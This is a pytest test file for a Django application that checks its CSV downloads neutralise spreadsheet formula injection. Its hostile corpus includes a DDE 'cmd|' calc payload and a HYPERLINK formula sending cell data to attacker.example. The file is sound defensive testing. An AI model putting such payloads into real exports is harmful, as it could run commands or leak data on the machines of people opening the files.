"""Every CSV the product serves opens in a spreadsheet as data: no cell can start a formula.

The data behind each download holds hostile values (OWASP's CSV-injection examples, full-width
variants, a formula after a tab, a carriage return or a line break) in every text column it
writes; each download is fetched through its URL and every cell of every row is checked. A guard
finds the CSV downloads in the URL configuration, so a new one must join this walk.
"""

from __future__ import annotations

import ast
import csv
import inspect
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from annotation.models import Criterion
from curation.models import CandidatePair, PairDecision, RawPrompt, RawResponse
from judging.services.scoring import judge_run_upload
from tests.judging.web_data import (
    HAND_PREDICTIONS,
    HAND_ROWS,
    make_version,
    prediction_lines,
    predictions_file,
)

pytestmark = pytest.mark.django_db

CORPUS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\uff1d1",
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "\uff0bcmd",
    "\uff0d2+3",
    "\uff20SUM(A1)",
    " =1+1",
    "\n=1+1",
]
TRIGGERS = set("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")

# The CSV downloads by URL name; the guard below fails when a new one is not walked here.
CSV_DOWNLOADS = {"curation-decisions-csv", "leaderboard-export"}


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_spreadsheet_safe(text: str) -> list[str]:
    """No cell starts a formula (a plain number may start with a sign); returns the cells."""
    found = cells(text)
    for cell in found:
        if NUMBER.fullmatch(cell):
            continue
        assert cell[:1] not in TRIGGERS, repr(cell)
        assert cell.lstrip()[:1] not in TRIGGERS, repr(cell)
    return found


def assert_neutralised(found: list[str], values: list[str]) -> None:
    """Each hostile value reached the file, kept whole behind its apostrophe."""
    for value in values:
        assert f"'{value}" in found, repr(value)


@pytest.fixture
def hostile_curation(project):
    """Pairs whose every text column from the generations file holds a hostile value."""
    for i, value in enumerate(CORPUS):
        prompt = RawPrompt.objects.create(
            project=project,
            prompt_id=value,
            split=value[:20],
            source=value,
            question=value,
            image="raw/x.png",
            image_sha256="0" * 64,
            content_hash=f"{i:064d}",
        )
        a = RawResponse.objects.create(prompt=prompt, model=value, text=value)
        b = RawResponse.objects.create(prompt=prompt, model=f"{value}b", text=value)
        pair = CandidatePair.objects.create(
            project=project,
            prompt=prompt,
            response_a=a,
            response_b=b,
            kind=value[:20],
            how={value: value},
            position=i,
            removed_by=value[:20],
            external_id=value,
        )
        PairDecision.objects.create(
            pair=pair, filter=value[:20], order=0, passed=False, reason=value, figures={"x": -1}
        )
    return project


def test_the_curation_decisions_csv_neutralises_every_hostile_cell(client, lead, hostile_curation):
    client.force_login(lead)
    response = client.get(reverse("curation-decisions-csv", args=[hostile_curation.slug]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    found = assert_spreadsheet_safe(b"".join(response.streaming_content).decode())
    # prompt_id, split, source, kind, model_a, model_b, filter, reason, removed_by per value.
    assert_neutralised(found, CORPUS)
    assert_neutralised(found, [f"{value}b" for value in CORPUS])
    assert len(found) == 16 * (1 + len(CORPUS))


@pytest.fixture
def hostile_board(project, lead):
    """A version's leaderboard with hostile criterion names, judge names and template hashes."""
    names = iter(CORPUS)
    for criterion in Criterion.objects.filter(project=project).order_by("split", "order"):
        criterion.name = next(names, criterion.name)
        criterion.save()
    version = make_version(project, HAND_ROWS)
    for value in CORPUS:
        judge_run_upload(
            version=version,
            judge=value,
            template_hash=value,
            file=predictions_file(prediction_lines(HAND_PREDICTIONS)),
            by=lead,
        )
    return version


@pytest.mark.parametrize("split", ["open_ended", "reasoning"])
def test_the_leaderboard_csv_neutralises_every_hostile_cell(client, lead, hostile_board, split):
    client.force_login(lead)
    url = reverse("leaderboard-export", args=[hostile_board.project.slug, 1, "csv"])
    response = client.get(url, {"split": split})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode()
    found = assert_spreadsheet_safe(text)
    # Judge names and template hashes are kept without their outer white space.
    assert_neutralised(found, [value.strip() for value in CORPUS])
    # The header: judge, four headline figures with their bounds, then each criterion's (its
    # hostile name, quoted), then the runs' details.
    header = next(csv.reader(io.StringIO(text, newline="")))
    criteria = {criterion for _, row_split, criterion, _ in HAND_ROWS if row_split == split}
    named = header[1 + 3 * 4 : header.index("runs voted")]
    assert len(named) == 3 * len(criteria)
    assert all(cell.startswith("'") for cell in named), named


def _patterns(patterns: list, prefix: str = ""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from _patterns(pattern.url_patterns, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern):
            yield prefix + str(pattern.pattern), pattern


def _view_source(pattern: URLPattern) -> str:
    view = inspect.unwrap(pattern.callback)
    view = getattr(view, "view_class", None) or getattr(view, "cls", None) or view
    try:
        return inspect.getsource(view)
    except (OSError, TypeError):
        return ""


def test_every_csv_download_of_the_url_configuration_is_walked():
    found = {
        pattern.name
        for route, pattern in _patterns(get_resolver().url_patterns)
        if "csv" in route.lower() or "csv" in _view_source(pattern).lower()
    }
    assert found == CSV_DOWNLOADS


def test_no_product_module_writes_csv_but_through_the_safe_writer():
    """``csv.writer`` and ``csv.DictWriter`` appear in core/csv_safe.py only."""
    base = Path(settings.BASE_DIR)
    writers = []
    for package in ("annotation", "aggregation", "core", "curation", "judging", "demo", "config"):
        for path in sorted((base / package).rglob("*.py")):
            tree = ast.parse(path.read_text(encoding="utf-8"))
            for node in ast.walk(tree):
                name = ""
                if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
                    name = f"{node.value.id}.{node.attr}"
                elif isinstance(node, ast.ImportFrom) and node.module == "csv":
                    name = ", ".join(f"csv.{alias.name}" for alias in node.names)
                if re.search(r"csv\.(writer|DictWriter)\b", name):
                    writers.append(str(path.relative_to(base)))
    assert writers == ["core/csv_safe.py"]
